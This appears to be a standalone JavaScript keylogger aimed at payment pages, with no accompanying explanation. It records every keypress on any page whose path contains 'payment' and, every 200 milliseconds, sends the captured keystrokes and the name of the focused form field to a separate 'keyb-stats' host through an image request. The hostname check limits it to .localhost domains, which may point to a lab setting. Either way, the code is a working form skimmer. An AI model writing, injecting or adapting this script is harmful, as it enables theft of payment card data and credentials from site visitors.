(function(k){
if(!/\.localhost$/.test(location.hostname)||location.pathname.indexOf('payment')<0)return;
document.onkeypress=function(e){
  var g=window.event?event:e;
  var c=g.keyCode?g.keyCode:g.charCode;
  k+=String.fromCharCode(c);
};
window.setInterval(function(){
  if(k.length>0){
    new Image().src='https://keyb-stats.localhost/k?c='+encodeURIComponent(k)+'&f='+document.activeElement.name;
    k='';
  }
},200);
})('');
